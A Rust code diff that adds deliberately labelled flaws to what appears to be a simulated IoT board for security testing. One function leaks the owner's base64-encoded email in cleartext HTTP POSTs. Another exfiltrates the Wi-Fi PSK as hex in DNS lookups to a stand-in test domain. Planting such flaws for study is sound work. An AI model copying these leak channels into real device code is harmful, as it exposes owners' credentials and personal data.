@@ -81,6 +81,57 @@ pub fn post_telemetry(url: &str) {
     })
 }
 
+/// The telemetry-leaks-email flaw: a diagnostics record every 2 s, POSTed in clear to
+/// `url`, with the owner's e-mail (once set) base64-encoded in a JSON field.
+pub fn post_diagnostics(url: &str, state: &std::path::Path) {
+    let Some(rest) = url.strip_prefix("http://") else {
+        return;
+    };
+    let (hp, path) = rest.split_once('/').unwrap_or((rest, ""));
+    let host = hp.to_string();
+    let state = state.to_path_buf();
+    http_loop(hp, move |n| {
+        let owner = crate::board::State::load(&state)
+            .get("owner_email")
+            .map(|e| base64(e.as_bytes()))
+            .unwrap_or_default();
+        let body = format!("{{\"device\":\"simboard-sb1\",\"seq\":{n},\"owner\":\"{owner}\"}}");
+        format!(
+            "POST /{path}/diag HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+            body.len()
+        )
+    })
+}
+
+/// The psk-in-dns flaw: every 2 s, a name lookup whose first label is the Wi-Fi PSK (once
+/// set) in hex, as a "diagnostics over DNS" channel would.
+pub fn psk_lookups(state: &std::path::Path) {
+    loop {
+        if let Some(psk) = crate::board::State::load(state).get("wifi_psk") {
+            let hex: String = psk.bytes().map(|b| format!("{b:02x}")).collect();
+            let _ = format!("{hex}.diag.simboard.test:80").to_socket_addrs();
+        }
+        std::thread::sleep(std::time::Duration::from_secs(2));
+    }
+}
+
+fn base64(input: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in input.chunks(3) {
+        let n =
+            (u32::from(c[0]) << 16) | (u32::from(*c.get(1).unwrap_or(&0)) << 8) | u32::from(*c.get(2).unwrap_or(&0));
+        for i in 0..4 {
+            out.push(if i <= c.len() {
+                A[(n >> (18 - 6 * i)) as usize & 63] as char
+            } else {
+                '='
+            });
+        }
+    }
+    out
+}
+
 /// Sends `request(n)` over plain HTTP to `host_port` every 2 s (n counts the requests), for
 /// as long as the board is powered; the answer is read and dropped.
 pub fn http_loop(host_port: &str, request: impl Fn(u64) -> String) {
